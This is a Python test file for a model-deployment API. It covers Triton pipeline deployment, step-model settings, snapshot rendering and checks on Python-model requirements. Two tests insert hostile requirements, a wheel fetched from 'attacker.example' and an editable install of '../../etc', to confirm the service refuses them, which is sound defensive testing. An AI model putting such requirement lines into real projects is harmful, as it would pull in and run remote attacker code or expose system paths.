"""Deploying a pipeline deploys its step models with it, and python models only with plain requirements (the
local runtime installs them: deployments/pyenvs.py). The reconciler is not run (tests/test_pipeline_e2e.py serves
the pipeline on a real Triton); the revision's snapshot is rendered here to check it carries everything the renderer
needs."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from google.protobuf import text_format
from tritonclient.grpc import model_config_pb2 as mc

from deployments.models import Deployment
from deployments.render import render_repository
from deployments.runtimes.artifacts import artifact_path
from models_registry.models import ModelVersion
from models_registry.samples import digits_pipeline_definition
from models_registry.tests.pipeline_versions import create_pipeline, digits_steps, ready_version
from tests.artifacts import PYTHON_SIGNATURE, python_model_zip
from tests.support.people import Person

NO_BATCHING = None


@pytest.fixture
def pipeline(alice: Person) -> ModelVersion:
    digits_steps(alice)
    response = create_pipeline(alice, digits_pipeline_definition())
    assert response.status_code == 201, response.json()
    return ModelVersion.objects.get(model__name="digits-pipeline")


def deploy(person: Person, models: list[dict[str, Any]], **body: Any) -> Any:
    return person.client().post("/api/v1/deployments/", {"name": "digits-pipeline", "models": models, **body},
                                format="json")


def by_model(response: Any) -> dict[str, dict[str, Any]]:
    assert response.status_code in (200, 201), response.json()
    return {m["model"]: m for m in response.json()["models"]}


def test_a_pipeline_brings_its_step_models_with_their_defaults(alice: Person, pipeline: ModelVersion) -> None:
    models = by_model(deploy(alice, [{"model": "digits-pipeline"}]))
    assert list(models) == ["digits-pipeline", "preprocess", "digits", "postprocess"]
    assert models["digits-pipeline"]["format"] == "ensemble"
    assert models["digits-pipeline"]["dynamic_batching"] is NO_BATCHING
    assert models["digits-pipeline"]["max_batch_size"] == 64
    # Batchable ONNX batches dynamically by default; python steps do not unless asked.
    assert models["digits"]["dynamic_batching"] == {"max_queue_delay_microseconds": 0, "preferred_batch_size": [],
                                                    "preserve_ordering": False}
    assert models["preprocess"]["dynamic_batching"] is NO_BATCHING
    assert models["postprocess"]["dynamic_batching"] is NO_BATCHING
    revision = Deployment.objects.get().revision
    assert revision is not None
    assert {str(v) for v in revision.versions.all()} == {
        "acme/digits-pipeline:1", "acme/preprocess:1", "acme/digits:1", "acme/postprocess:1"}


def test_instances_of_the_pipeline_itself_are_refused_not_dropped(alice: Person, pipeline: ModelVersion) -> None:
    """Triton runs a pipeline in its steps' instances: "instances 3" on the pipeline was accepted, shown in the
    settings, and not rendered. Now it is refused beside the field; on the step models it applies."""
    response = deploy(alice, [{"model": "digits-pipeline", "instance_group": {"count": 3}}])
    assert response.status_code == 400
    fields = response.json()["error"]["fields"]
    assert list(fields) == ["models[0].instance_group.count"]
    assert "set instances on its step models" in fields["models[0].instance_group.count"][0]
    assert not Deployment.objects.exists()
    models = by_model(deploy(alice,
                             [{"model": "digits-pipeline"}, {"model": "digits", "instance_group": {"count": 3}}]))
    assert models["digits"]["instance_group"]["count"] == 3


def test_listed_step_models_keep_their_own_settings(alice: Person, pipeline: ModelVersion) -> None:
    models = by_model(deploy(alice, [
        {"model": "digits-pipeline"},
        {"model": "digits", "max_batch_size": 32, "dynamic_batching": {"max_queue_delay_microseconds": 2000},
         "instance_group": {"count": 2}},
        {"model": "preprocess", "instance_group": {"count": 2}},
    ]))
    assert models["digits"]["dynamic_batching"]["max_queue_delay_microseconds"] == 2000
    assert models["digits"]["instance_group"]["count"] == 2
    assert models["preprocess"]["instance_group"]["count"] == 2
    assert models["preprocess"]["dynamic_batching"] is NO_BATCHING
    # The pipeline batches no more than its steps are served with.
    assert models["digits-pipeline"]["max_batch_size"] == 32


def test_a_listed_step_model_serves_the_version_the_pipeline_names(alice: Person, pipeline: ModelVersion) -> None:
    from models_registry.tests.pipeline_versions import digits_bytes

    ready_version(alice, "digits", digits_bytes(), "digits.onnx")  # version 2, the latest
    models = by_model(deploy(alice, [{"model": "digits-pipeline"}, {"model": "digits"}]))
    assert models["digits"]["version"] == 1
    response = deploy(alice, [{"model": "digits-pipeline"}, {"model": "digits", "version": 2}])
    assert response.status_code == 400
    assert response.json()["error"]["fields"]["models[1].version"] == [
        "pipeline 'digits-pipeline' uses version 1 of 'digits', not 2: list it without a version, or with version 1"]


def test_the_snapshot_renders_the_ensemble_with_its_version_directory(
    alice: Person, pipeline: ModelVersion, tmp_path: Path
) -> None:
    deploy(alice, [{"model": "digits-pipeline"},
                   {"model": "digits", "dynamic_batching": {"max_queue_delay_microseconds": 500}}])
    revision = Deployment.objects.get().revision
    assert revision is not None
    spec = revision.spec.repository(lambda e: artifact_path(e.sha256))
    render_repository(spec, "local", tmp_path / "repo")
    config = text_format.Parse((tmp_path / "repo/digits-pipeline/config.pbtxt").read_text(), mc.ModelConfig())
    assert config.platform == "ensemble" and config.max_batch_size == 64
    assert [(s.model_name, s.model_version) for s in config.ensemble_scheduling.step] == [
        ("preprocess", 1), ("digits", 1), ("postprocess", 1)]
    assert dict(config.ensemble_scheduling.step[1].input_map) == {"input": "features"}
    assert config.input[0].data_type == mc.TYPE_STRING and list(config.input[0].dims) == [1]
    assert config.output[0].data_type == mc.TYPE_STRING and list(config.output[0].dims) == [3]
    assert (tmp_path / "repo/digits-pipeline/1").is_dir()
    assert not list((tmp_path / "repo/digits-pipeline/1").iterdir())
    assert sorted(p.name for p in (tmp_path / "repo/preprocess/1").iterdir()) == [
        "digit_image.py", "model.py", "requirements.txt"]
    digits = text_format.Parse((tmp_path / "repo/digits/config.pbtxt").read_text(), mc.ModelConfig())
    assert digits.dynamic_batching.max_queue_delay_microseconds == 500
    preprocess = text_format.Parse((tmp_path / "repo/preprocess/config.pbtxt").read_text(), mc.ModelConfig())
    assert not preprocess.HasField("dynamic_batching")
    assert preprocess.input[0].data_type == mc.TYPE_STRING


def test_a_python_model_stores_its_requirements(alice: Person) -> None:
    version = ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy>=1.20\n# comment\npillow\n"}),
                            "tool.zip", PYTHON_SIGNATURE)
    assert version.definition == {"requirements": ["numpy>=1.20", "pillow"]}
    assert version.requirements == ["numpy>=1.20", "pillow"]


def test_a_python_model_whose_packages_the_runtime_env_lacks_is_deployed_to_have_them_installed(
    alice: Person,
) -> None:
    ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy\ntabulate>=0.9\n"}),
                  "tool.zip", PYTHON_SIGNATURE)
    response = alice.client().post("/api/v1/deployments/", {"name": "tool", "models": [{"model": "tool"}]},
                                   format="json")
    assert response.status_code == 201, response.json()
    assert Deployment.objects.get(name="tool").revision.spec.models[0].requirements == ("numpy", "tabulate>=0.9")


def test_the_local_runtime_refuses_a_stored_requirement_that_is_not_plain(alice: Person) -> None:
    """Versions inspected before requirements were installed were parsed more loosely: deploying checks again."""
    version = ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy\n"}), "tool.zip",
                            PYTHON_SIGNATURE)
    ModelVersion.objects.filter(pk=version.pk).update(
        definition={"requirements": ["numpy", "evil @ https://attacker.example/evil-1.0-py3-none-any.whl"]})
    response = alice.client().post("/api/v1/deployments/", {"name": "tool", "models": [{"model": "tool"}]},
                                   format="json")
    assert response.status_code == 400
    [message] = response.json()["error"]["fields"]["models[0].requirements"]
    assert message.startswith("model 'tool' version 1: requirement 2 ('evil @ https://attacker.example/")
    assert "URLs" in message and "the operator chooses the package index" in message
    assert not Deployment.objects.exists()
    # Kubernetes runs the image it is given: what it must contain is documented (docs/kubernetes.md), not built.
    response = alice.client().post("/api/v1/deployments/", {"name": "tool", "runtime": "kubernetes",
                                                            "models": [{"model": "tool"}]}, format="json")
    assert "models[0].requirements" not in response.json().get("error", {}).get("fields", {})


def test_a_step_models_requirements_are_checked_too(alice: Person, pipeline: ModelVersion) -> None:
    step = ModelVersion.objects.get(model__name="preprocess")
    ModelVersion.objects.filter(pk=step.pk).update(definition={"requirements": ["pillow", "-e ../../etc"]})
    response = deploy(alice, [{"model": "digits-pipeline"}])
    assert response.status_code == 400
    [message] = response.json()["error"]["fields"]["models[0].requirements"]
    assert message.startswith("model 'preprocess' version 1: requirement 2 ('-e ../../etc') is refused: not a "
                              "package requirement")
